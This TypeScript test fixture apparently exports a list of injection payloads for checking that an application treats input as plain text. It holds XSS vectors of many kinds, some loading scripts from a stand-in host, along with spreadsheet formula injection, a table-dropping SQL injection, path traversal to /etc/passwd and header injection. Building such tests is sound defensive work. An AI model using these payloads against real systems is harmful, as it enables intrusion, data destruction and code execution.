/** The effect of a payload that runs. */
export const HIT = "window.hit=1";
/** Nothing of ours asks this host. */
export const CANARY = "canary.invalid";

const LONG = 20_000;

const scripts = [
  `<script>${HIT}</script>`,
  `<ScRiPt>${HIT}</sCrIpT>`,
  `<script src="https://${CANARY}/x.js"></script>`,
  `<script type="module">import("https://${CANARY}/x.js")</script>`,
  `</script><script>${HIT}</script>`,
  `</title></textarea></style><script>${HIT}</script>`,
  `<scr<script>ipt>${HIT}</scr</script>ipt>`,
  `<script>//\n${HIT}\n</script>`,
  `<!--<script>--><script>${HIT}</script>`,
  `<noscript><p title="</noscript><script>${HIT}</script>">`,
];

const handlers = [
  `<img src=x onerror="${HIT}">`,
  `<img src=x:x onerror=${HIT}//`,
  `"><img src=x onerror=${HIT}>`,
  `' autofocus onfocus='${HIT}`,
  `" onmouseover="${HIT}" x="`,
  `<body onload=${HIT}>`,
  `<input autofocus onfocus=${HIT}>`,
  `<details open ontoggle=${HIT}>`,
  `<video><source onerror=${HIT}></video>`,
  `<audio src=x onerror=${HIT}>`,
  `<marquee onstart=${HIT}>`,
  `<select autofocus onfocus=${HIT}>`,
  `<img/src=x/onerror=${HIT}>`,
  `<div style="animation:x 1s" onanimationstart=${HIT}>`,
];

const addresses = [
  `javascript:${HIT}`,
  `JaVaScRiPt:${HIT}`,
  `java\tscript:${HIT}`,
  `\u0001javascript:${HIT}`,
  `javascript://%0a${HIT}`,
  `data:text/html,<script>${HIT}</script>`,
  `vbscript:${HIT}`,
  `//${CANARY}/`,
  `https://${CANARY}/`,
  `/\\${CANARY}/`,
  `<a href="javascript:${HIT}">Continue</a>`,
  `<form action="javascript:${HIT}"><button>Continue</button></form>`,
  `<base href="https://${CANARY}/">`,
  `<meta http-equiv="refresh" content="0;url=https://${CANARY}/">`,
];

const frames = [
  `<iframe srcdoc="<script>parent.${HIT}</script>"></iframe>`,
  `<iframe src="javascript:parent.${HIT}"></iframe>`,
  `<object data="javascript:${HIT}"></object>`,
  `<embed src="https://${CANARY}/x">`,
  `<link rel="stylesheet" href="https://${CANARY}/x.css">`,
  `<style>@import "https://${CANARY}/x.css";</style>`,
  `<div style="background:url(https://${CANARY}/x.png)">`,
];

const drawings = [
  `<svg onload=${HIT}>`,
  `<svg><script>${HIT}</script></svg>`,
  `<svg><animate onbegin=${HIT} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${HIT}"><text y=20>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${HIT}>#x">`,
  `<math><mi xlink:href="javascript:${HIT}">x</mi></math>`,
];

const templates = [
  `{{constructor.constructor('${HIT}')()}}`,
  `\${${HIT}}`,
  `<%= ${HIT} %>`,
  `#{${HIT}}`,
  `<template><script>${HIT}</script></template>`,
  `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=${HIT} )//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=${HIT}//>`,
  `{"__html":"<img src=x onerror=${HIT}>"}`,
  `\\u003cscript\\u003e${HIT}\\u003c/script\\u003e`,
  `&lt;script&gt;${HIT}&lt;/script&gt;`,
  `&#60;img src=x onerror=${HIT}&#62;`,
];

const characters = [
  `\uFF1Cscript\uFF1E${HIT}\uFF1C/script\uFF1E`,
  `<\u0000script>${HIT}</script>`,
  `\u202E<script>${HIT}</script>`,
  `\uFEFF<img src=x onerror=${HIT}>`,
  `\uD800<svg onload=${HIT}>`,
  `e${"\u0301".repeat(200)}<svg onload=${HIT}>`,
  `a\u2028${HIT}\u2029b`,
  `+ADw-script+AD4-${HIT}+ADw-/script+AD4-`,
];

const names = ["__proto__", "constructor", "toString", "hasOwnProperty", "__proto__[hit]"];

const others = [
  `=HYPERLINK("https://${CANARY}/")`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  "' or 1=1; drop table orders; --",
  "../../../../etc/passwd",
  "%00%0d%0aSet-Cookie:%20hit=1",
  `${"x".repeat(LONG)}<img src=x onerror=${HIT}>`,
];

/** Texts that run, ask a foreign host, or confuse a program if they're taken for more than texts. */
export const payloads: string[] = [
  ...scripts,
  ...handlers,
  ...addresses,
  ...frames,
  ...drawings,
  ...templates,
  ...characters,
  ...names,
  ...others,
];

/** Half a character can't be typed or sent. */
export const wellFormed = (text: string): string => Buffer.from(text).toString();
